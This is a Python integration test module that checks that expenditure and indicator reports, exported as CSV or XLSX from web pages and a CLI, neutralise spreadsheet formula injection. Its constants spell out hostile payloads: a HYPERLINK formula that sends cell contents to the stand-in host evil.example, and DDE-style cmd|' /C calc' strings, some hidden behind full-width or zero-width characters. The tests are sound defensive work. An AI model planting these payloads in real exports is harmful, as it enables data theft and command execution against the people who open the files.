"""Formula injection: what someone typed never reaches a spreadsheet as a formula.

The attack: a caseworker (or whoever holds one's password) requests a payment whose payee
is `=HYPERLINK("http://evil.example/?x="&A1,"Clicca")` or whose evidence reference is
`@SUM(1+1)*cmd|' /C calc'!A0`; the domain takes both, a name being a name. When the
coordinator opens the expenditure report, the spreadsheet runs them: a link that sends
the neighbouring cells away, a command. Every download and every file the CLI writes is
checked here through its real entry point; the stored data keep what was typed.

The indicator table holds ids and codes that the domain validates, so nothing typed
reaches its cells today; its read model is written by hand here, so that the exports are
shown to hold even for a value that slipped past (an old event, a manual fix).
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import pytest_asyncio
from fastapi import FastAPI
from typer.testing import CliRunner

from client.pathway import PathwayClient
from domain.calendar import project_day
from domain.payments.commands import RequestPayment
from domain.payments.ledger import LedgerEntry, PaymentKind
from domain.payments.payee import Payee
from infra.crypto.master import MasterKey
from infra.db import Pool, open_pool
from infra.eventstore.postgres import PostgresEventStore
from infra.indicators.postgres_projection import PostgresIndicatorProjection
from infra.indicators.postgres_queries import PostgresIndicatorQueries
from tests.eventstore.builders import T0, read_models, records, summary
from tests.eventstore.conftest import database, postgres
from tests.eventstore.ledger_builders import GOOD_IBAN, entry, lines, with_ledger
from tests.indicators.test_projector import caseload
from tests.security.spreadsheet_checks import assert_inert_csv, assert_inert_xlsx
from tests.web.conftest import web_settings
from tests.web.staff import ORGANISATIONS, staffed_accounts
from tests.web.test_pages import sign_in
from tests.web_app import create_test_app
from workers.cli import app as cli
from workers.composition import payments_desk

__all__ = ["database", "postgres"]

pytestmark = pytest.mark.integration

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
FULL_WIDTH = '＝HYPERLINK("http://evil.example/")'
MINUS = "-1+1"
PLUS = "+39 0832 000000"  # a phone number, typed where a name goes: a formula all the same
UNSEEN = "\u200b=cmd|' /C calc'!A0"  # a zero-width space first: the domain strips no such thing
TYPED = [(HYPERLINK, CALC), (FULL_WIDTH, MINUS), (PLUS, UNSEEN)]
"""Payee names and evidence references, as a caseworker's form sends them."""
EVERY = [value for pair in TYPED for value in pair]

NOW = datetime(2025, 3, 20, 10, 0, tzinfo=UTC)
PERIOD = {"from": "2025-03-01", "to": "2025-03-31"}


def typed_entries() -> list[LedgerEntry]:
    """The ledger entries of payments requested with the hostile names and references."""
    booked = []
    for index, (payee, evidence) in enumerate(TYPED):
        request = RequestPayment(
            measure_id="m-housing",
            kind=PaymentKind.FURNITURE,
            amount=100_00,
            payee=Payee(name=payee, iban=GOOD_IBAN),
            evidence_ref=evidence,
        )
        assert (request.payee.name, request.evidence_ref) == (payee, evidence)
        base = entry(f"pw-x{index}", request.amount, organisation_id="org-lecce")
        booked.append(
            base.model_copy(
                update={"payee_name": request.payee.name, "evidence_ref": request.evidence_ref}
            )
        )
    return booked


async def book(pool: Pool) -> None:
    """The approved payments in the ledger, appended as the pathway workflow books them."""
    store = PostgresEventStore(pool)
    async with pool.connection() as conn:
        for organisation in ORGANISATIONS:
            await conn.execute(
                "INSERT INTO organisations (organisation_id, name) VALUES (%s, %s)",
                (organisation.id, organisation.name),
            )
    await store.budget.apply_budget(
        lines(furniture=1_000_00), changed_by="t", changed_at=T0, source="test"
    )
    for e in typed_entries():
        p = e.pathway_id
        await store.append(p, 0, records(p, 0, f"{p}-open"), read_models(summary(p, 1)))
        await store.append(p, 1, records(p, 1, f"approve-{p}"), with_ledger(p, 2, e))


async def stored_payees(pool: Pool) -> list[tuple[Any, ...]]:
    async with pool.connection() as conn:
        query = "SELECT payee_name, evidence_ref FROM ledger ORDER BY pathway_id"
        return list(await (await conn.execute(query)).fetchall())


@dataclass
class Site:
    app: FastAPI
    pool: Pool

    def browser(self) -> httpx.AsyncClient:
        return httpx.AsyncClient(
            transport=httpx.ASGITransport(app=self.app), base_url="http://testserver"
        )


@pytest_asyncio.fixture(loop_scope="session")
async def payments_site(database: str) -> AsyncIterator[Site]:
    pool = await open_pool(database, min_size=1, max_size=4)
    await book(pool)
    app = create_test_app(
        PathwayClient(None, "unused"),  # type: ignore[arg-type]  # the report sends none
        PostgresEventStore(pool),
        await staffed_accounts(),
        web_settings(clock=lambda: NOW),
        payments_desk(pool),
    )
    try:
        yield Site(app, pool)
    finally:
        await pool.close()


async def test_the_expenditure_report_page_writes_typed_formulas_as_text(
    payments_site: Site,
) -> None:
    async with payments_site.browser() as cora:
        await sign_in(cora, "cora")
        query = {"organisation": "org-lecce", "include_approved": "1", **PERIOD}
        as_csv = await cora.get("/payments/report", params=query)
        as_xlsx = await cora.get("/payments/report", params={**query, "format": "xlsx"})

    assert as_csv.status_code == as_xlsx.status_code == 200
    assert_inert_csv(as_csv.text, *EVERY)
    assert_inert_xlsx(as_xlsx.content, *EVERY)
    assert await stored_payees(payments_site.pool) == TYPED


def cli_env(database: str, folder: Path) -> dict[str, str]:
    return {
        "PATHWAYS_DATABASE_URL": database,
        "PATHWAYS_DATA_DIR": str(folder / "data"),
        "PATHWAYS_MASTER_KEY": MasterKey.generate().to_base64(),
    }


def on_database(database: str, seed: Any) -> Any:
    """Run `seed(pool)` on the database, from a synchronous test (the CLI runs its own loop)."""

    async def run() -> Any:
        pool = await open_pool(database, 1, 2)
        try:
            return await seed(pool)
        finally:
            await pool.close()

    return asyncio.run(run())


def test_the_expenditure_report_command_writes_typed_formulas_as_text(
    database: str, tmp_path: Path
) -> None:
    on_database(database, book)
    env, runner = cli_env(database, tmp_path), CliRunner()
    args = ["payments", "report", "--from", PERIOD["from"], "--to", PERIOD["to"]]
    args.append("--include-approved")
    as_csv = runner.invoke(cli, args, env=env)
    out = tmp_path / "report.xlsx"
    as_xlsx = runner.invoke(cli, [*args, "--format", "xlsx", "--out", str(out)], env=env)

    assert as_csv.exit_code == as_xlsx.exit_code == 0, (as_csv.output, as_xlsx.output)
    assert_inert_csv(as_csv.stdout, *EVERY)
    assert_inert_xlsx(out.read_bytes(), *EVERY)
    assert on_database(database, stored_payees) == TYPED


NATIONALITY = '=HYPERLINK("http://evil.example/","IT")'


async def slipped_past(pool: Pool) -> None:
    """The test caseload projected, with a nationality no form would take in its read model."""
    await caseload(pool)
    await PostgresIndicatorProjection(pool).catch_up()
    async with pool.connection() as conn:
        await conn.execute(
            "UPDATE indicator_dimensions SET nationality = %s WHERE pathway_id = 'p-a'",
            (NATIONALITY,),
        )


@pytest_asyncio.fixture(loop_scope="session")
async def indicators_site(database: str) -> AsyncIterator[Site]:
    pool = await open_pool(database, min_size=1, max_size=4)
    await slipped_past(pool)
    app = create_test_app(
        PathwayClient(None, "unused"),  # type: ignore[arg-type]  # the downloads send none
        PostgresEventStore(pool),
        await staffed_accounts(),
        web_settings(clock=lambda: datetime.now(UTC)),
        indicators=PostgresIndicatorQueries(pool),
    )
    try:
        yield Site(app, pool)
    finally:
        await pool.close()


AS_OF = (project_day(datetime.now(UTC)) - timedelta(days=1)).isoformat()


async def test_the_indicator_downloads_write_a_slipped_value_as_text(
    indicators_site: Site,
) -> None:
    async with indicators_site.browser() as cora:
        await sign_in(cora, "cora")
        query = {"as_of": AS_OF, "by": "nationality"}
        as_csv = await cora.get("/indicators.csv", params=query)
        as_xlsx = await cora.get("/indicators.xlsx", params=query)

    assert as_csv.status_code == as_xlsx.status_code == 200, as_csv.text
    assert_inert_csv(as_csv.text, NATIONALITY)
    assert_inert_xlsx(as_xlsx.content, NATIONALITY)


def test_the_indicator_report_command_writes_a_slipped_value_as_text(
    database: str, tmp_path: Path
) -> None:
    on_database(database, slipped_past)
    env, runner = cli_env(database, tmp_path), CliRunner()
    args = ["report", "--as-of", AS_OF, "--by", "nationality", "--threshold", "0"]
    as_csv = runner.invoke(cli, [*args, "--format", "csv"], env=env)
    out = tmp_path / "report.xlsx"
    as_xlsx = runner.invoke(cli, [*args, "--format", "xlsx", "--output", str(out)], env=env)

    assert as_csv.exit_code == as_xlsx.exit_code == 0, (as_csv.output, as_xlsx.output)
    assert_inert_csv(as_csv.stdout, NATIONALITY)
    assert_inert_xlsx(out.read_bytes(), NATIONALITY)
